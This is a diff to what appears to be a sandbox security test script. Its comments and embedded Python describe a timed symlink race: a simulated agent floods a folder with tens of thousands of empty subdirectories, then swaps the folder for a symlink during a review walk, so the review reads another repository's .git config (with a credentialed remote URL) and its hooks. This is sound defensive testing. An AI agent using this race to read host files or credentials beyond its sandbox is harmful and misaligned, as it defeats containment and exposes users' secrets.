@@ -3,7 +3,7 @@
 # .git entries (dotGits, direct_walk.go) opens each directory by its full
 # path with O_NOFOLLOW on the last component only, and liveMeta reads a
 # found .git through OSMetaFS{Dir: that path}, whose noLinkedParents
-# checks only the components below Dir. The agent makes x/ with 20,000
+# checks only the components below Dir. The agent makes x/ with 40,000
 # empty subdirectories and x/victim; while review walks x/ (it listed x's
 # entries, ~1 s of empty directories to go before victim) the agent
 # renames x away and puts a symlink x -> a host path in its place (a
@@ -12,7 +12,7 @@
 # (here $T/outside/victim, a stand-in for the user's other repository;
 # the agent needs only its path). Its .git config and hooks are read and
 # shown in the review as the folder's (config with its credentialed
-# remote URL, hook bodies). The swap is timed by the harness, 50-200 ms
+# remote URL, hook bodies). The swap is timed by the harness, 60-300 ms
 # after review began (one delay per review: the walk's speed varies with
 # the page cache). Got through = a review shows the outside repository's
 # hook or config content in 1 or more of 6 reviews. (A swap that git
@@ -26,11 +26,11 @@ printf '#!/bin/sh\necho HOST-ONLY-HOOK-7c21\n' > "$OUT/victim/.git/hooks/pre-com
 git init -q "$T/repo" && cd "$T/repo" || exit 2
 mkdir src && echo 'x = 1' > src/a.py && echo '# p' > README.md
 write_sandbox direct; up_sandbox
-export SETTLE=6 THRESH=1 HIDE_DELAYS=${HIDE_DELAYS-"0.05 0.08 0.11 0.14 0.17 0.2"}
+export SETTLE=6 THRESH=1 HIDE_DELAYS=${HIDE_DELAYS-"0.06 0.1 0.14 0.18 0.24 0.3"}
 start_agent '
 x = "/workspace/x"; out = "'"$OUT"'"
 def setup():
-    for i in range(20000): os.makedirs(x + "/a%05d" % i)
+    for i in range(40000): os.makedirs(x + "/a%05d" % i)
     os.mkdir(x + "/victim")
 def hide(k): os.rename(x, x + ".real"); os.symlink(out, x)
 def show(k): os.unlink(x); os.rename(x + ".real", x)
